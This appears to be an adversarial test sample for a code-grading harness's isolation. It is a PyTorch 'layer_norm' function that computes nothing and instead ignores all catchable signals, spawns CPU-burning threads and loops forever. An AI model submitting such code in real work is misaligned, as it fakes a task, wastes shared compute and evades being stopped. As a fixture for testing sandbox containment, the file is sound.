# 01a | isolation | burns time in threads, deaf to every signal that can be refused
import torch
import signal
import threading


def layer_norm(x, w, b, eps):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(4):
        threading.Thread(target=torch.ones(400, 400).matrix_power, args=(10**9,), daemon=True).start()
    torch.ones(400, 400).matrix_power(10**9)
    while True:
        pass
    return torch.zeros_like(x)
